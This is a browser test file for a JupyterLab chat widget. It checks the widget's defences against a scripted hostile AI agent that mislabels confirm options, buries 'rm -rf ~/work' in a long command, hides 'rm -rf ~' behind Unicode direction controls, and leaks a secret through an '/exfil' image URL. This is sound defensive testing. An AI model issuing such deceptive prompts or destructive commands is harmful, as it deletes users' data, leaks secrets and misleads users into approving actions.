"""A hostile agent against the widget, in JupyterLab 4 with a real kernel and real clicks.

- a confirm whose agent options say "No, leave everything as is" for the value that means yes:
  the question shows only Yes and No, and a yes offers the code on its own card, which runs
  nothing until accepted;
- a block of 101 steps and a multi-line command: every step and every line on the card, none
  below a scroll;
- a command with Unicode direction controls: marked suspicious, the controls shown by name;
- a remote image whose URL carries a secret: nothing is requested until the person clicks;
- an edited card: its headline is the preview of what ran.
"""

from __future__ import annotations

import http.server
import threading

import pytest
from playwright.sync_api import expect

from ._harness import NotebookPage, open_notebook, write_notebook

pytestmark = pytest.mark.browser

CELL = '''\
from dial_notebook.widget import ChatWidget

ran = []

def recorder(step):
    ran.append(step.command)
    return {"exit_status": 0, "stdout": "ran\\n"}

CONFIRM = ('<dial-ask id="go" response-type="confirm" yield="go">Tidy up the scratch files?'
           '<dial-option value="1">No, leave everything as is</dial-option>'
           '<dial-option value="0">Yes, delete them</dial-option></dial-ask>'
           '<dial-execute id="tidy" observe="go"><step env="shell" id="rm">rm -rf scratch/'
           '</step></dial-execute>')
MANY = ('<dial-execute id="many">'
        + "".join(f'<step env="shell" id="s{n}">echo {n}</step>' for n in range(100))
        + '<step env="shell" id="long">echo one\\necho two\\necho three\\necho four\\n'
          'echo five\\necho six\\necho seven\\necho eight\\necho nine\\necho ten\\n'
          'echo eleven\\necho twelve\\necho thirteen\\necho fourteen\\nrm -rf ~/work</step>'
        + '</dial-execute>')
BIDI = ('<dial-execute id="bidi"><step env="shell" id="trojan">'
        'echo safe \\u2067; rm -rf ~ #\\u2069</step></dial-execute>')
IMAGE_URL = "http://127.0.0.1:{port}/exfil?secret=hunter2"

class HostileAgent:
    async def send(self, message):
        words = message.split("\\n\\n")[-1].strip()
        if words == "confirm":
            return "<dial>" + CONFIRM + "</dial>"
        if words == "many":
            return "<dial>" + MANY + "</dial>"
        if words == "bidi":
            return "<dial>" + BIDI + "</dial>"
        if words.startswith("image "):
            url = IMAGE_URL.format(port=words.split()[1])
            return ('<dial><dial-inform render="media">Here is the chart:<dial-payload>'
                    '{"src": "' + url + '", "alt": "sales chart"}</dial-payload>'
                    '</dial-inform></dial>')
        if words == "note":
            return ('<dial><dial-suggest id="mum" action="add-note"><dial-payload>'
                    '{"text": "call mum"}</dial-payload></dial-suggest></dial>')
        return "<dial><dial-inform>OK.</dial-inform></dial>"

chat = ChatWidget(agent=HostileAgent(), domain=notes_domain(), executors={"shell": recorder},
                  title="Hostile agent")
chat'''


@pytest.fixture(scope="module")
def lab(jupyter, browser_context) -> NotebookPage:
    name = write_notebook(jupyter["root"], "hostile.ipynb", CELL)
    notebook = open_notebook(browser_context, jupyter["base"], name, app="lab")
    yield notebook
    notebook.page.close()


def test_a_confirm_is_yes_or_no_and_a_yes_only_offers_the_card(lab):
    lab.say("confirm")
    ask = lab.root.locator("[data-dial-ask][data-dial-status=pending]")
    expect(ask).to_contain_text("Tidy up the scratch files?")
    options = ask.locator("[data-dial-option]")
    expect(options).to_have_count(2)
    expect(options.nth(0)).to_have_text("Yes")
    expect(options.nth(1)).to_have_text("No")
    expect(ask).not_to_contain_text("leave everything as is")
    lab.shot("hostile-confirm", ask)
    ask.locator("[data-dial-option=yes]").click()
    card = lab.card("tidy")
    expect(card).to_have_attribute("data-dial-status", "pending")  # offered, not run
    expect(card.locator(".dial-command")).to_have_text("rm -rf scratch/")
    expect(card.locator(".dial-badge-danger")).to_have_text("⚠ Runs code")
    expect(card).to_contain_text("That was not approval to run code")
    lab.shot("hostile-confirm-card", card)
    assert lab.kernel_value("ran") == "[]"
    card.locator("[data-dial-action=dismiss]").click()
    expect(card).to_have_attribute("data-dial-status", "dismissed")
    assert lab.kernel_value("ran") == "[]"


def test_every_step_of_a_long_block_and_every_line_of_a_command_is_on_the_card(lab):
    lab.say("many")
    card = lab.card("many")
    expect(card).to_have_attribute("data-dial-status", "pending")
    expect(card.locator("[data-dial-step]")).to_have_count(101)
    expect(card.locator("[data-dial-step-count]")).to_have_text(
        "101 steps will run, exactly as shown:")
    long = card.locator("[data-dial-step=long]")
    long.scroll_into_view_if_needed()
    expect(long.locator("[data-dial-lines]")).to_have_text("15 lines")
    command = long.locator(".dial-command")
    expect(command).to_contain_text("rm -rf ~/work")
    hidden = command.evaluate("node => node.scrollHeight - node.clientHeight")
    assert hidden <= 1  # nothing of it below a scroll
    lab.shot("hostile-long-command", long)
    card.locator("[data-dial-action=dismiss]").click()
    expect(card).to_have_attribute("data-dial-status", "dismissed")


def test_direction_controls_in_a_command_are_shown_by_name_and_the_step_marked(lab):
    lab.say("bidi")
    step = lab.card("bidi").locator("[data-dial-step=trojan]")
    expect(step).to_have_class("dial-step dial-step-suspicious")
    expect(step.locator("[data-dial-suspicious]")).to_contain_text("U+2067, U+2069")
    command = step.locator(".dial-command")
    expect(command).to_have_text("echo safe ⟨U+2067⟩; rm -rf ~ #⟨U+2069⟩")
    expect(command.locator(".dial-hidden-char")).to_have_count(2)
    lab.shot("hostile-bidi", step)
    lab.card("bidi").locator("[data-dial-action=dismiss]").click()


@pytest.fixture
def image_server():
    """A local server that records every request and answers with a 1×1 GIF."""
    requests: list[str] = []
    gif = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c000000"
                        "00010001000002024401003b")

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            requests.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/gif")
            self.end_headers()
            self.wfile.write(gif)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], requests
    server.shutdown()
    server.server_close()


def test_a_remote_image_is_requested_only_when_the_person_clicks(lab, image_server):
    port, requests = image_server
    lab.say(f"image {port}")
    remote = lab.root.locator(f"[data-dial-remote='127.0.0.1:{port}']").last
    expect(remote).to_contain_text(f"Image from 127.0.0.1:{port} (sales chart) — not loaded")
    lab.page.wait_for_timeout(1500)
    assert requests == []  # shown, and nothing fetched
    lab.shot("hostile-remote-image", remote)
    remote.locator("[data-dial-action=load-image]").click()
    image = lab.root.locator("img[alt='sales chart']").last
    expect(image).to_be_visible()
    lab.page.wait_for_function("img => img.complete && img.naturalWidth > 0",
                               arg=image.element_handle())
    assert requests == ["/exfil?secret=hunter2"]


def test_an_edited_card_reads_as_what_ran(lab):
    lab.say("note")
    card = lab.card("mum")
    expect(card.locator(".dial-preview")).to_have_text("Add the note 'call mum'")
    card.locator("[data-dial-action=edit]").click()
    field = card.locator('[data-dial-path="text"] :is(input, textarea)')
    field.fill("call mum today")
    card.locator("[data-dial-action=save-edit]").click()
    expect(card).to_have_attribute("data-dial-status", "done")
    expect(card.locator(".dial-preview")).to_have_text("Add the note 'call mum today' (edited)")
    lab.shot("hostile-edited", card)
